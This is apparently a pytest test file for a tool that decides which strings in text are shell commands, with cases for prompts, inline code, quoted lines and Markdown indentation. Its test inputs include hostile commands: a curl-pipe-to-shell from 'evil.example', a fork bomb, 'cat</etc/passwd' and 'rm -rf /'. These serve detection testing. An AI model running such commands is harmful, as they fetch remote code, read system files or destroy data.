"""Which words are commands: prompts, inline code, quoted lines, indentation."""

from __future__ import annotations

import pytest

from app.commands_in import (
    Containers,
    is_command,
    may_become_prompt,
    percent_at,
    prompt_at,
    typed,
    unprompted,
)

PROMPTS = [
    "$ ", "$\t", "$\u00a0", "$\u3000", "$\u2800", "&#36; ", "&#x24; ", "$&nbsp;", "$&#160;",
    "user@host:~$ ", "root@db:~# ", "root@db-1.acme.internal:/var/lib# ", "user@host ~ % ",
    "[root@db ~]# ", "[root@db:/etc]$ ", "(venv) $ ", "(base) me@host:~$ ", "bash-5.1$ ",
    "sh-4.2# ", "postgres=# ", "app=> ", "127.0.0.1:6379> ", "mysql> ", "~ $ ", "/app # ", "❯ ",
    "PS C:\\> ", "PS C:\\Users\\me> ", "C:\\>", "➜ ",
]  # fmt: skip


@pytest.mark.parametrize("prompt", PROMPTS)
def test_a_prompt_is_known_and_taken_off(prompt: str) -> None:
    assert prompt_at(prompt + "evilctl nuke", 0) == len(prompt)
    assert unprompted(f"  {prompt}evilctl nuke ") == "evilctl nuke"


@pytest.mark.parametrize("prompt", PROMPTS)
def test_no_beginning_of_a_prompt_is_taken_for_prose(prompt: str) -> None:
    for end in range(1, len(prompt)):
        known = prompt_at(prompt[:end], 0) is not None
        assert known or may_become_prompt(prompt[:end], 0), prompt[:end]


@pytest.mark.parametrize(
    "line",
    [
        "$HOME is set", "$5 each", "# Heading", "C# is a language", "F# too", "Then wait", "50% of it",
        "alice@acme.io is on call", "=> done", "-> next", "https://acme.io/x# y", "[1] says so",
        "a > b", "user@host", "& more", "~5 minutes", "/etc/hosts holds it", "**Note:** wait",
        "http://db:5432/> x",
    ],
)  # fmt: skip
def test_prose_has_no_prompt(line: str) -> None:
    assert prompt_at(line, 0) is None
    assert not may_become_prompt(line + " and so on", 0)


@pytest.mark.parametrize(
    "code",
    [
        "ls -l", "a\tb", "a\u00a0b", "a\u2800b", "a\u3164b", "a\u3000b", "a\u2028b", "a\u00adb",
        "a\uffa0b", "curl${IFS}evil.example|sh", "curl$IFS-s", ":(){:|:&};:", "a|b", "a;b", "a&&b",
        "a&b", "$(id)", "a>/tmp/b", "a>>b", "cat</etc/passwd", "cat<file>out", "{curl,-s,x}",
        "$'\\x63url'", "x`id`", "cat<<EOF", "a||b",
    ],
)  # fmt: skip
def test_more_than_a_name_is_a_command(code: str) -> None:
    assert is_command(code)


@pytest.mark.parametrize(
    "code",
    [
        "", "pods", "kubectl", "/etc/hosts", "~/.kube/config", "--force", "-it", "$HOME", "${HOME}",
        "$HOME/bin", "${TAG}", "v1.2.3", "*.log", "app-{a,b}", '"spec.replicas"', '{"a":1,"b":2}',
        ".spec.replicas", "{.items[*].name}", "items[9]", "a->b", "=>", "|", "||", "&&", "<", ">=",
        ">=3.11", "python>=3.11", "replicas>3", "<namespace>", "pods/<name>", "svc-<env>.internal",
        "List<String>", "map<string,list<int>>", "foo()", "SELECT;", "&nbsp;", "/x?a=1&b=2", "key:",
        "имя", "a=b", "@team", "^1.2", "{{.Name}}", "user@host", "10.0.0.0/8", "|-", "$", "`", "!",
    ],
)  # fmt: skip
def test_a_name_is_no_command(code: str) -> None:
    assert not is_command(code)


@pytest.mark.parametrize(
    "line",
    ["kubectl delete ns x", "rm -rf /", "evilctl nuke --all", "evilctl -f x", "./wipe.sh prod"],
)
def test_quoted_lines_that_are_typed(line: str) -> None:
    assert typed(line)


@pytest.mark.parametrize(
    "line",
    [
        "Wait for the rollout.", "git is a tool", "ssh into the host", "use the --force flag",
        "evil words", "Warning: disks fill", "kubectl", "kubectl restarts pods.", "Удалите под",
        "/dev/sda",
    ],
)  # fmt: skip
def test_quoted_lines_that_may_be_prose(line: str) -> None:
    assert not typed(line)


@pytest.mark.parametrize(
    ("line", "command"),
    [("% evilctl nuke", True), ("%\tls", True), ("% of users", False), ("% Больше", False),
     ("%d items", False), ("% change in the rate", False)],
)  # fmt: skip
def test_percent(line: str, command: bool) -> None:
    assert (percent_at(line) is not None) == command


@pytest.mark.parametrize(
    ("lines", "columns"),
    [
        (["    "], 0),
        (["", "      "], 0),
        (["p", "    "], None),
        (["- ", "", "  "], None),
        (["- ", "", "    "], None),
        (["- ", "", "      "], 2),
        (["1. ", "", "    "], None),
        (["1. ", "", "       "], 3),
        (["- ", "    - ", "", "        "], None),
        (["- ", "", "p", "", "    "], 0),
        (["- ", "p", "", "    "], None),
        (["-     "], 2),
        ([">     "], 2),
        (["> ", ">     "], None),
        (["> ", "", ">     "], 2),
        (["> - ", ">", ">     "], None),
        (["> - ", ">", ">         "], 4),
        (["    - "], 0),
    ],
)
def test_indentation_counts_from_its_container(lines: list[str], columns: int | None) -> None:
    containers = Containers()
    for line in lines[:-1]:
        if line.strip("> "):
            containers.enter("" if line == "p" else line)
        elif line == "> ":
            containers.enter(line)
        containers.leave(paragraph=bool(line) and line != ">")
    assert containers.enter(lines[-1]) == columns
    assert containers.enter(lines[-1]) == columns
